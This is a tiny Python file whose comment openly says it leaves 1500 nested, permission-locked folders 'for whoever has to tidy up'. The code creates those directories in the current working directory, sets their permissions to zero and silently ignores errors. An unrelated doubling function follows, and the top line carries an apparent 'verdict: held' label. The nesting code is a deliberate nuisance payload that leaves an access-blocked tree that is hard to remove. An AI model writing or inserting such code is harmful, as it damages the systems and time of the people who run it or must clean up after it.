# verdict: held
# Leaves folders inside one another, 1500 deep and closed, for whoever has to tidy up.

import os

start = os.getcwd()
try:
    for _ in range(1500):
        os.mkdir("folder")
        os.chdir("folder")
    os.chmod(".", 0)
except OSError:
    pass
os.chdir(start)
os.chmod("folder", 0)


def double(x):
    return 2 * x
